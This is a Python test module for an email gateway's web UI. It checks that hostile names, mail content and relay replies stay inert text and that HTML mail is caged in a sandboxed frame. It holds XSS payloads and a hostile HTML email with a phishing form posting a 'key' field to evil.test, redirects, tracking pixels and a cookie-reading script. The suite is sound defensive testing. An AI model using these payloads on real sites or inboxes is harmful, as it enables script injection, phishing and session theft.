"""Hostile texts in the browser: what stands in mail, names and answers runs nothing, and nothing is fetched for it."""

from __future__ import annotations

import imaplib
import socketserver
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from email.policy import SMTP
from urllib.parse import urlencode

import pytest

from tests.servers.process import free_port, wait_for
from tests.support.api import Api
from tests.support.browser import Visit
from tests.support.gateway import Gateway

from .conftest import admin_key

SCRIPTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'-alert(1)-'",
    "{{ 7 * 7 }}", "</title><script>alert(1)</script>", "javascript:alert(1)", "</textarea><script>alert(1)</script>",
)
TEXT = " ".join(SCRIPTS)
"""All of them: each breaks out of what the others stay in."""
NAME = "\"><svg onload=alert(1)>'<img src=x onerror=alert(1)>{{ 7 + 7 }}"
"""For what may hold neither slash nor wildcard."""
MADE = "main script, main svg, main img[src='x'], main [onerror], main [onload]"
"""What a page would hold if a text had become markup. The gateway's own pictures are files."""
HTML = """
<html><head><script>alert(1)</script><meta http-equiv="refresh" content="0;url=https://evil.test/">
<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css">
<style>@import url(https://evil.test/y.css); body { background: url(https://evil.test/b.png) }</style></head>
<body onload="alert(1)"><img src="https://evil.test/pixel.gif"><img src=x onerror="alert(1)">
<svg><script>alert(1)</script></svg><iframe src="javascript:alert(1)"></iframe><object data="https://evil.test/o"></object>
<form action="https://evil.test/f"><input name="key"><button id="send">Log in again</button></form>
<a id="link" href="javascript:alert(1)">here</a><video src="https://evil.test/v.mp4" autoplay></video>
<script>top.location = "https://evil.test/"; parent.document.title = "taken"; fetch("/inboxes")</script>
<p>Only this is to be read.</p></body></html>
"""


class Relay(socketserver.StreamRequestHandler):
    """A server whose every answer is hostile."""

    def handle(self) -> None:
        self.wfile.write(b"220 relay.test\r\n")
        for line in self.rfile:
            if line[:4].upper() == b"EHLO":
                self.wfile.write(b"250 relay.test\r\n")
            else:
                self.wfile.write(b"451 4.3.0 " + TEXT.encode() + b"\r\n")


PORT = free_port()
SETTINGS = f"""
[web]
requests_per_second = 1000
request_burst = 5000
[relay]
host = "127.0.0.1"
port = {PORT}
security = "none"
allow_private = true
"""


@pytest.fixture(scope="module")
def relay() -> Iterator[None]:
    with socketserver.ThreadingTCPServer(("127.0.0.1", PORT), Relay) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield
        server.shutdown()


@dataclass(frozen=True)
class Place:
    """An inbox of hostile texts. `pages`: paths, and the text that each shows."""

    address: str
    key: str
    pages: dict[str, str]


@pytest.fixture(scope="module")
def place(relay: None, gateway: Gateway) -> Place:
    """Everything that has a name has a hostile one: inbox, keys, folder, account, mail, files, what a relay says."""
    address, key = gateway.inbox("victim@mail.test")
    with Api(gateway, admin_key(gateway)) as api:
        inbox = f"/api/v1/inboxes/{address}"
        api.patch(inbox, {"name": TEXT})
        api.post("/api/v1/keys", {"name": TEXT})
        api.post("/api/v1/keys", {"name": TEXT, "inbox": address})
        api.post(f"{inbox}/mailboxes", {"name": NAME})
        account = api.post("/api/v1/connectors", {
            "name": NAME, "address": "them@elsewhere.test", "inbox": address,
            "options": {"imap": {"host": "127.0.0.1", "port": 1, "allow_private": True, "secret": "x"}},
        })["id"]  # fmt: skip
        with gateway.imap(address, key) as client:
            put(client, letter(TEXT))
        [message] = api.get(f"{inbox}/messages")["items"]
        draft = api.post(f"{inbox}/drafts", {
            "subject": TEXT, "text": TEXT, "to": f'"{TEXT.replace(chr(34), "")}" <a@far.test>',
            "attachments": [{"file_name": TEXT, "content": "eA=="}],
        })["id"]  # fmt: skip
        api.post(f"{inbox}/send", {"to": "far@far.test", "subject": TEXT, "text": TEXT})

        def waiting() -> list[dict[str, str]]:
            found: list[dict[str, str]] = api.get(f"/api/v1/queue?inbox={address}&state=deferred")["items"]
            return found

        wait_for(lambda: bool(waiting()), "the relay's answer")
        wait_for(lambda: bool(api.get(f"/api/v1/connectors/{account}")["failure"]), "the account's failure")
        sent = waiting()[0]["id"]
    room = f"/inboxes/{address}"
    return Place(address, key, {
        "/": "", "/inboxes": TEXT, room: TEXT, f"{room}?": NAME, f"{room}/mail": TEXT,
        f"{room}/mail?{urlencode({'mailbox': NAME})}": NAME, f"{room}/mail?{urlencode({'q': TEXT})}": "",
        f"{room}/mail/{message['id']}": TEXT, f"{room}/mail/{draft}": TEXT,
        f"{room}/compose?how=reply&of={message['id']}": TEXT, f"{room}/compose?how=forward&of={message['id']}": TEXT,
        f"{room}/compose?draft={draft}": "", "/keys": TEXT, "/connectors": NAME, f"/connectors/{account}": NAME,
        "/connectors/new": "", "/queue": TEXT, f"/queue/{sent}": TEXT, "/health": "",
    })  # fmt: skip


@pytest.fixture
def visit(admin: Visit) -> Visit:
    admin.page.on("dialog", lambda dialog: (admin.wrong.append(f"a script ran: {dialog.message}"), dialog.dismiss()))
    return admin


def put(client: imaplib.IMAP4_SSL, message: EmailMessage | bytes) -> None:
    octets = message if isinstance(message, bytes) else message.as_bytes(policy=SMTP)
    assert client.append("INBOX", "", None, octets)[0] == "OK"  # type: ignore[arg-type]


def letter(text: str) -> EmailMessage:
    """`text` wherever a text of the sender's is shown."""
    made = EmailMessage(policy=SMTP.clone(utf8=False))
    made["From"] = '"{}" <evil@mail.test>'.format(text.replace("\\", "").replace('"', '\\"'))
    made["To"] = "victim@mail.test"
    made["Subject"] = text
    made["X-Note"] = text
    made.set_content(f"Hello {text}")
    made.add_attachment(b"octets", maintype="application", subtype="octet-stream", filename=text)
    return made


def wrong(visit: Visit) -> list[str]:
    """But for what the policy of the message's frame keeps out: that is what it is for."""
    return [text for text in visit.wrong if "Content Security Policy" not in text and "sandbox" not in text]


def shown(text: str) -> str:
    """Without its blanks, which pages lay out as they like."""
    return "".join(text.split())


def test_texts_stay_texts_on_every_page(visit: Visit, place: Place) -> None:
    """What is shown is the text as it is, once found on each page; nothing was made of it, and nothing ran."""
    for path, text in place.pages.items():
        page = visit.open(path)
        for more in page.locator("main details").all():
            more.evaluate("one => { one.open = true }")
        assert shown(text) in shown(page.locator("main").inner_text()), path
        assert page.locator(MADE).count() == 0, path
        assert wrong(visit) == [], path


def test_forms_give_back_what_was_typed_and_no_more(visit: Visit, place: Place) -> None:
    """Refused, with the text in the field and in the reason."""
    room = f"/inboxes/{place.address}"
    forms = (
        (f"{room}/compose", {"To": TEXT, "Subject": TEXT, "Text": TEXT}, "Send"),
        ("/keys", {"Name": TEXT, "Days until it ends": TEXT[:5]}, "New key"),
        ("/connectors/new", {"Address of the account": TEXT, "Name (as you like)": TEXT}, "Connect"),
        ("/inboxes", {"Address": TEXT, "Name (as you like)": TEXT}, "Make it"),
        (room, {"Its address, to confirm": TEXT}, "Delete"),
    )
    for path, fields, button in forms:
        page = visit.open(path)
        page.evaluate("for (const one of document.forms) { one.noValidate = true; delete one.dataset.stays; }")
        page.evaluate("for (const one of document.querySelectorAll('input')) one.removeAttribute('maxlength')")
        for label, text in fields.items():
            page.get_by_label(label, exact=label in ("To", "Name", "Text")).fill(text)
        with page.expect_navigation():
            page.get_by_role("button", name=button, exact=True).click()
        page.get_by_role("alert").filter(visible=True).wait_for()
        assert page.locator(MADE).count() == 0, path
        assert [text for text in wrong(visit) if "422" not in text] == [], path


def test_events_are_told_as_texts(visit: Visit, place: Place, gateway: Gateway, api: Callable[..., Api]) -> None:
    page = visit.open("/live")
    page.get_by_text("Connected").wait_for()
    with gateway.imap(place.address, place.key) as client:
        put(client, letter(TEXT))
    client = api(place.key)
    made = client.post(f"/api/v1/inboxes/{place.address}/mailboxes", {"name": f"{NAME} 2"})
    page.locator("#events li", has_text="new mailbox").wait_for()
    client.delete(f"/api/v1/inboxes/{place.address}/mailboxes/{made['id']}")
    client.post(f"/api/v1/inboxes/{place.address}/send", {"to": "far@far.test", "subject": TEXT})
    for said in ("arrived", "mailbox gone", "put off"):
        page.locator("#events li", has_text=said).first.wait_for()
    told = shown(page.locator("#events").inner_text())
    assert shown(TEXT) in told
    assert shown(NAME) in told
    assert page.locator(MADE).count() == 0
    assert wrong(visit) == []


def test_html_is_shown_in_a_cage(visit: Visit, gateway: Gateway) -> None:
    address, key = gateway.inbox("caged@mail.test")
    made = EmailMessage(policy=SMTP)
    made["From"], made["To"], made["Subject"] = "evil@mail.test", address, "Look"
    made.set_content("plain")
    made.add_alternative(HTML, subtype="html")
    with gateway.imap(address, key) as client:
        put(client, made)
    visit.open(f"/inboxes/{address}/mail")
    link = visit.page.locator(".letters a").first.get_attribute("href")
    assert link is not None
    visit.open(link)
    assert wrong(visit) == []
    assert visit.page.url == visit.base + link
    assert visit.page.title().startswith("Look")
    frame = visit.page.frame_locator("iframe")
    frame.get_by_text("Only this is to be read.").wait_for()
    for name in ("#send", "#link"):
        with visit.page.expect_console_message(lambda said: said.type == "error", timeout=5000):
            frame.locator(name).click(no_wait_after=True)
    assert visit.page.url == visit.base + link
    assert len(visit.context.pages) == 1
    assert wrong(visit) == []


def test_the_frame_alone_is_as_harmless(visit: Visit, gateway: Gateway) -> None:
    """Somebody opens its address by itself: the policy travels with it."""
    address, key = gateway.inbox("alone@mail.test")
    made = EmailMessage(policy=SMTP)
    made["From"], made["Subject"] = "evil@mail.test", "Look"
    made.set_content("<script>document.title = document.cookie || 'ran'</script><p>Text</p>", subtype="html")
    with gateway.imap(address, key) as client:
        put(client, made)
    visit.open(f"/inboxes/{address}/mail")
    link = visit.page.locator(".letters a").first.get_attribute("href")
    response = visit.page.goto(f"{visit.base}{link}/html")
    assert response is not None
    assert "script-src" not in response.headers["content-security-policy"]
    assert "sandbox" in response.headers["content-security-policy"]
    assert visit.page.title() == ""
    assert visit.page.evaluate("window.origin") == "null"
